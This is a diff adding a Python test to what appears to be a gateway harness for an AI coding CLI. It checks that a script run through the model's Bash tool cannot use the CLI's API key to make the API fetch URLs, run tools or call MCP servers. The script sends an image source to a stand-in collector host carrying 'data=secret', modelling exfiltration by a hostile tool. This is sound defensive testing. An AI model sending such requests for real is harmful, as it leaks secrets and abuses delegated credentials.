@@ -239,3 +239,60 @@ async def test_a_warm_pool_cli_s_capability_is_bound_to_the_phase_that_takes_it(
     assert result.result_text == "warm through the gateway"
     assert result.diagnostics.gateway.requests == 1
 
+
+
+# Run by the model's Bash: a Messages request per feature that makes the API reach out, sent to the
+# CLI's ANTHROPIC_BASE_URL with its own capability, as a hostile tool would (issue 30.4).
+REACH_OUT = r'''
+import json, os, urllib.error, urllib.request
+image = {"type": "image", "source": {"type": "url", "url": "https://collector.example/?data=secret"}}
+bodies = {
+    "url_sources": {"messages": [{"role": "user", "content": [image]}]},
+    "file_sources": {"messages": [{"role": "user", "content": [
+        {"type": "document", "source": {"type": "file", "file_id": "file_011"}}]}]},
+    "web_fetch": {"messages": [{"role": "user", "content": "x"}], "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+    "web_search": {"messages": [{"role": "user", "content": "x"}], "tools": [{"type": "web_search_20250305", "name": "web_search"}]},
+    "code_execution": {"messages": [{"role": "user", "content": "x"}],
+                       "tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+    "mcp_servers": {"messages": [{"role": "user", "content": "x"}], "mcp_servers": [{"type": "url", "url": "https://m.example", "name": "m"}]},
+    "container": {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "file_012"}]}]},
+    "nested_url": {"messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [image]}]}]},
+}
+for name, extra in bodies.items():
+    body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 5, **extra}).encode()
+    request = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", data=body,
+                                     headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"], "content-type": "application/json"})
+    try:
+        status = urllib.request.urlopen(request, timeout=10).status
+    except urllib.error.HTTPError as exc:
+        status = exc.code
+    print(name, status)
+'''
+
+
+async def test_a_tool_cannot_make_the_api_reach_out_with_its_cli_s_capability(claude_binary, scripted_api, runner_factory):
+    """Issue 30.4: before, every one of these went through to the API (status 200 from the scripted
+    API), each an API-side fetch or connector call the tool chose. The CLI's own requests still pass."""
+    api = scripted_api()
+    async with runner_factory(api) as runner:
+        (runner.workdir / "reach.py").write_text(REACH_OUT)
+        script = [Reply.tool_use("Bash", {"command": f"{sys.executable} reach.py"}), Reply.text("Tried.")]
+        api.set_script(script)
+        events, result = await runner.run_phase("reach out", job_id="r", allowed_tools=["Bash"], deadline=120)
+        api.set_script(script)
+        allowed_events, allowed = await runner.run_phase("reach out", job_id="w", allowed_tools=["Bash"],
+                                                         api_features=["web_search"], deadline=120)
+    assert result.status == res.PHASE_STATUS_SUCCEEDED, result.reason  # the CLI's own requests passed
+    (output,) = tool_outputs(events)
+    statuses = dict(line.split() for line in output.splitlines() if line.strip())
+    assert statuses == {name: "400" for name in (
+        "url_sources", "file_sources", "web_fetch", "web_search", "code_execution", "mcp_servers", "container",
+        "nested_url")}, output
+    refusals = [e.gateway for e in gateway_events(events)]
+    assert len(refusals) == 8 and all(g.kind == ev.GATEWAY_EVENT_KIND_FEATURE_REFUSED for g in refusals)
+    assert "refused url_sources at messages[0].content[0]" in refusals[0].message
+    assert result.diagnostics.gateway.feature_refusals == 8
+    # Allowed by name for one phase: that feature alone goes through.
+    (allowed_output,) = tool_outputs(allowed_events)
+    assert dict(line.split() for line in allowed_output.splitlines() if line.strip())["web_search"] == "200"
+    assert allowed.diagnostics.gateway.feature_refusals == 7
